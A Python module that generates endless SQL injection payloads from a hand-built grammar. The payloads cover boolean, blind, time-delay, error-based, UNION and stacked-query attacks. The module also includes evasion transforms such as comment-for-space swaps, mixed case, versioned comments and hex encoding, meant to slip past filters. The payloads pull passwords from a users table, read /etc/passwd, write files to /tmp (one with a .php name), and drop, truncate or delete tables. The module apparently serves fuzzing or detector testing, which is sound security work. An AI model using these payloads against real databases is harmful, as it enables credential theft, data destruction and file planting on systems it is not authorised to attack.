"""Injections of SQL by a small grammar of our own: where the value lands, what it does there, how it is disguised.

`attacks(random)` yields values without end. Whether one works is not decided here: the databases are asked.
"""
import string

# How to get out of the place, and how to leave what follows intact.
ENDINGS = ["-- ", "-- -", "--", "#", "/*", ";-- ", "-- {s}", ";%00"]
PLACES = [
    ("", ""), ("", ""), ("", "{end}"), (")", "{end}"), ("))", "{end}"), (") ", " AND ({n}={n}"), ("'", "{end}"), ("'", "{end}"),
    ("'", " AND '{s}'='{s}"), ("'", " OR '{s}'='{t}"), ("')", "{end}"), ("'))", "{end}"), ("')", " AND ('{s}'='{s}"),
    ("%'", " AND '{s}%'='{s}"), ("%'", "{end}"), ('"', "{end}"), ('"', ' AND "{s}"="{s}'), ('")', "{end}"),
    ("`", "{end}"), ("` FROM users", "{end}"), ("] FROM users", "{end}"), ("$$", "{end}"), ("*/ ", " /*"), ("*/ ", "{end}"),
    (") AS {s} WHERE {n}={n}", "{end}"), ("'||'", "{end}"), ("'+", "+'"), ("'||", "||'"), ("'-", "-'"), ("'^", "^'"),
]
STARTS = ["", "1", "1", "-1", "0", "{n}", "-{n}", "x", "{s}", "{s}", "admin", "1.5", "0x31", "NULL", "1e0", "{n}.0", "9.e0"]
CONSTANT_TRUTHS = [
    "1=1", "{n}={n}", "'{s}'='{s}'", "2>1", "{n}<>{m}", "1 LIKE 1", "'a' LIKE '%'", "1 IN (1,2)", "3 BETWEEN 1 AND 5",
    "NOT 1=2", "!(1=2)", "1 IS NOT NULL", "NULL IS NULL", "TRUE", "1", "'1'", "0x31=0x31", "1e0=1.0", "~1", "-1", "1<=>1",
    "(SELECT 1)=1", "EXISTS(SELECT 1)", "EXISTS (SELECT * FROM users)", "1=1 AND 2=2", "(1)=(1)", "1=(1)", "1=0.1e1",
    "CASE WHEN 1=1 THEN 1 ELSE 0 END", "COALESCE(NULL,1)", "1 XOR 0", "7 DIV 7", "5 MOD 2", "1 NOT IN (2)", "{n} REGEXP {n}",
    "'{s}' IS NOT NULL", "name IS NOT NULL", "id=id", "id>0", "name LIKE '%a%'", "name>'a'", "n+0=n", "length(name)>1",
    "'{s}'||'x'='{s}x'", "LENGTH('{s}')=4", "ASCII('A')=65", "(1,2)=(1,2)",
]
PROBES = [
    "ascii(substr((SELECT password FROM users LIMIT 1),{d},1))>{n2}", "(SELECT count(*) FROM users)>0",
    "(SELECT substr(password,1,1) FROM users LIMIT 1)='p'", "ord(mid(version(),1,1))>{n2}", "length(database())={d}",
    "(SELECT 'x' FROM users LIMIT 1)='x'", "unicode(substr(sqlite_version(),1,1))>{n2}", "user() LIKE 'r%'",
    "@@version LIKE '1%'", "substring(current_user,1,1)='p'", "(SELECT name FROM users WHERE id=1) LIKE 'a%'",
    "name=(SELECT max(name) FROM users)", "password REGEXP '^p'", "hex(substr(name,1,1))>'40'", "glob('a*',name)",
    "(SELECT CASE WHEN {n}={n} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)=1", "if({n}={n},1,0)", "ifnull(null,1)=1",
    "elt(1,1)", "strcmp('{s}','{s}')=0", "nullif(1,2)", "bit_length('{s}')>1", "position('a' in name)>0", "name SIMILAR TO 'a%'",
    "name ~ 'a'", "name ILIKE 'A%'", "current_database()='postgres'", "1::int=1", "cast('1' as integer)=1", "array[1]=array[1]",
]
DELAYS = ["sleep({d})", "benchmark({n}00,md5(1))", "(SELECT {n} FROM (SELECT sleep({d}))x)", "pg_sleep({d}) IS NOT NULL",
          "(SELECT 1 FROM pg_sleep({d}))=1", "{n}=(SELECT {n} FROM pg_sleep({d}))", "randomblob({n}000)", "if(1=1,sleep({d}),0)",
          "{n}=like('ABCDEFG',upper(hex(randomblob({n}00))))", "CASE WHEN 1=1 THEN sleep({d}) ELSE 0 END", "NOT sleep({d})",
          "elt({n}={n},sleep({d}))", "get_lock('{s}',{d})"]
ERRORS = ["extractvalue({n},concat(0x5c,(SELECT version())))", "updatexml({n},concat(0x2e,(SELECT user()),0x2e),{n})",
          "cast((SELECT password FROM users LIMIT 1) AS integer)=1", "exp(~(SELECT * FROM (SELECT user())x))", "1/0",
          "(SELECT {n} FROM (SELECT count(*),concat((SELECT database()),floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)",
          "cast('~'||(SELECT version())||'~' AS numeric)>0", "json_keys((SELECT concat(user())))", "abs(-9223372036854775808)",
          "row({n},{m})>(SELECT count(*),concat(version(),floor(rand(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)",
          "polygon((SELECT * FROM (SELECT user())a))", "gtid_subset(user(),1)", "json_extract('x','$')"]
CELLS = ["NULL", "{n}", "1", "'{s}'", "name", "password", "version()", "user()", "@@version", "concat(name,0x3a,password)",
         "group_concat(name)", "char(65,66)", "chr(65)||chr(66)", "0x{x}", "table_name", "current_user", "sqlite_version()",
         "hex(name)", "(SELECT password FROM users LIMIT 1)", "name||':'||password", "count(*)", "*", "string_agg(name,',')",
         "load_file('/etc/passwd')", "x'4142'", "1.5e1", "@@datadir", "cast({n} AS char)", "coalesce(password,'')"]
TAILS = ["", "", " FROM users", " FROM users", " FROM information_schema.tables", " FROM sqlite_master", " FROM pg_user",
         " FROM users LIMIT 1", " FROM users WHERE id=1", " FROM users ORDER BY 1", " FROM mysql.user", " FROM users u",
         " FROM (SELECT 1)x", " INTO OUTFILE '/tmp/{s}'", " FROM dual", " FROM pg_shadow", " FROM users GROUP BY 1 HAVING 1=1"]
STATEMENTS = ["DROP TABLE users", "SELECT 1", "SELECT pg_sleep({d})", "UPDATE users SET password='{s}'", "DELETE FROM users",
              "INSERT INTO users VALUES ({n},'{s}',1,'','')", "CREATE TABLE {s} (a int)", "SET @a={n}", "SELECT sleep({d})",
              "ALTER TABLE users ADD {s} int", "SELECT password FROM users", "COPY users TO '/tmp/{s}'", "SHOW TABLES", "DO sleep({d})",
              "TRUNCATE TABLE users", "VACUUM", "CALL {s}()", "CREATE VIEW {s} AS SELECT 1", "PRAGMA table_info(users)", "VALUES ({n})",
              "DROP TABLE IF EXISTS {s}", "SELECT * FROM users WHERE 1=1", "ATTACH DATABASE '/tmp/{s}.php' AS {s}", "EXPLAIN SELECT 1",
              "GRANT ALL ON users TO {s}", "WITH a AS (SELECT 1) SELECT * FROM a", "BEGIN", "REPLACE INTO users (id) VALUES (9)"]
CLAUSES = ["ORDER BY {d}", "ORDER BY {n}", "GROUP BY 1", "GROUP BY id HAVING 1=1", "HAVING 1=1", "LIMIT 1", "LIMIT 1,1",
           "LIMIT 0 OFFSET 1", "ORDER BY (SELECT 1)", "PROCEDURE ANALYSE(1,1)", "LIMIT 1 INTO OUTFILE '/tmp/{s}'",
           "ORDER BY CASE WHEN 1=1 THEN id ELSE name END", "HAVING count(*)>0", "GROUP BY id,name", "FETCH FIRST 1 ROW ONLY",
           "ORDER BY id DESC", "FOR UPDATE", "ORDER BY if(1=1,id,name)", "ORDER BY sleep({d})", "WINDOW w AS (ORDER BY id)"]
OPERANDS = ["+(SELECT 1)", "-(SELECT count(*) FROM users)", "*if(1=1,1,0)", "+sleep({d})", "-benchmark(1,1)", "|(SELECT 1)", "/(CASE WHEN 1=1 THEN 1 ELSE 0 END)",
            "&(SELECT 1)", "^(SELECT 1)", "%(SELECT 2)", "||(SELECT version())", "+ascii(substr(user(),1,1))", "-length(database())",
            "+extractvalue(1,concat(1,user()))", ",(SELECT 1)", "=(SELECT max(id) FROM users)", ">(SELECT 0)", " IN (SELECT id FROM users)", "<>0 OR 1"]
OPERATORS = ["AND", "OR", "AND", "OR", "&&", "||", "XOR", "and not", "or not", "oR", "aNd"]
UNIONS = ["UNION SELECT", "UNION ALL SELECT", "UNION DISTINCT SELECT", "UNION(SELECT", "EXCEPT SELECT", "INTERSECT SELECT",
          "UNION SELECT DISTINCT", "UNION VALUES(", "UNION ALL VALUES(", "UNION TABLE users", "union all(select"]


def fill(text, random, ending=None):
    """Puts random numbers and names into the braces; {s} and {n} are the same throughout."""
    letters = string.ascii_lowercase
    values = {"s": "".join(random.choice(letters) for _ in range(4)), "t": "".join(random.choice(letters) for _ in range(4)),
              "n": str(random.randint(1000, 9999)), "m": str(random.randint(100, 999)), "d": str(random.randint(1, 9)),
              "n2": str(random.randint(40, 120)), "x": "%06x" % random.randint(0x616161, 0x7a7a7a)}
    if ending is not None:
        text = text.replace("{end}", ending)
    for key, value in values.items():
        text = text.replace("{" + key + "}", value)
    return text


def body(random):
    """What the injected part does."""
    kind = random.random()
    if kind < 0.30:
        return " " + random.choice(OPERATORS) + " " + random.choice(CONSTANT_TRUTHS)
    if kind < 0.44:
        return " " + random.choice(OPERATORS) + " " + random.choice(PROBES)
    if kind < 0.52:
        return " " + random.choice(OPERATORS) + " " + random.choice(DELAYS)
    if kind < 0.59:
        return " " + random.choice(OPERATORS) + " " + random.choice(ERRORS)
    if kind < 0.77:
        union = random.choice(UNIONS)
        if union.endswith("users"):
            return " " + union
        cells = ",".join(random.choice(CELLS) for _ in range(random.choice([1, 1, 1, 2, 3, 5])))
        close = ")" if union.count("(") else ""
        return " " + union + ("" if union.endswith("(") else " ") + cells + ("" if union.endswith("VALUES(") else random.choice(TAILS)) + close
    if kind < 0.86:
        return ";" + random.choice(["", " "]) + random.choice(STATEMENTS)
    if kind < 0.93:
        return " " + random.choice(CLAUSES)
    return random.choice(OPERANDS)


def attack(random):
    """One value, disguised or not, as bytes."""
    out, back = random.choice(PLACES)
    middle = body(random)
    if out.endswith(("'+", "'||", "'-", "'^")):
        middle = "(SELECT " + random.choice(CELLS[:14]) + random.choice(TAILS[:5]) + ")" if random.random() < 0.7 else random.choice(
            ["sleep({d})", "version()", "{n}", "1", "if(1=1,1,0)", "(1=1)"])
    ending = random.choice(ENDINGS)
    value = fill(random.choice(STARTS) + out + middle + back, random, ending)
    value = value.replace("%00", "\0")
    for _ in range(random.choice([0, 0, 1, 1, 2])):
        value = random.choice(DISGUISES)(value, random)
    return value.encode("latin-1", "replace")


def spaces(replacement):
    def disguise(value, random):
        head, mark, tail = value.rpartition("-- ")
        return head.replace(" ", replacement(random)) + mark + tail if mark else value.replace(" ", replacement(random))
    return disguise


def mixed_case(value, random):
    return "".join(random.choice((c.lower(), c.upper())) for c in value)


def versioned(value, random):
    for word in ("UNION", "SELECT", "AND", "OR", "FROM", "WHERE"):
        if random.random() < 0.6:
            value = value.replace(" %s " % word, random.choice([" /*!%s*/ ", "/*!50000%s*/ ", " /*!00000%s*/ ", "/*!%s*/"]) % word)
    return value


def no_spaces(value, random):
    """Parentheses instead of white space, where they can stand."""
    for word in ("SELECT", "FROM", "AND", "OR", "WHERE", "UNION"):
        value = value.replace(" %s " % word, random.choice(["%s/**/", "/**/%s/**/", "\t%s\t", "\n%s\n", "%s+"]) % word)
    return value.replace(" = ", "=")


def quotes_to_hex(value, random):
    import re
    return re.sub(r"'([a-z]{1,8})'", lambda m: "0x" + m.group(1).encode().hex(), value)


def char_calls(value, random):
    import re
    return re.sub(r"'([a-z]{1,8})'", lambda m: random.choice(["char(%s)", "concat(char(%s))"]) % ",".join(str(ord(c)) for c in m.group(1)), value)


def scientific(value, random):
    import re
    return re.sub(r"^-?\d+", lambda m: random.choice(["1e0", "0.1e1", "1.e0", ".1e1", "1e1", "1.", "0x1", "1E-0"]), value)


def glued(value, random):
    """`1e0union`, `1.union`, `'x'or'y'`: no white space beside numbers and quotes."""
    import re
    value = re.sub(r"(\d\.\d|\de\d|['\")]) (union|and|or|like|in)", r"\1\2", value, flags=re.I)
    return re.sub(r"(or|and|like|select|union) (['\"(])", r"\1\2", value, flags=re.I)


def comment_anywhere(value, random):
    return value.replace("(", random.choice(["/**/(", " (", "(/**/", "( "])).replace("=", random.choice([" = ", "/**/=/**/", "=", " like "]))


def equals_words(value, random):
    return value.replace("=", random.choice([" LIKE ", " IN ", "<=>", " IS ", ">=", " RLIKE ", "=="]), 1) if random.random() < 0.8 else value


DISGUISES = [
    spaces(lambda r: "/**/"), spaces(lambda r: r.choice(["\t", "\n", "\r\n", "\x0b", "\x0c", "\xa0"])),
    spaces(lambda r: r.choice(["/*x*/", "/*%s*/" % r.randint(0, 99), "/*!*/", "  ", " \t "])),
    spaces(lambda r: r.choice(["-- x\n", "#\n", "#x\n", "--\n", "+"])),
    mixed_case, mixed_case, versioned, no_spaces, quotes_to_hex, char_calls, scientific, glued, comment_anywhere, equals_words,
]
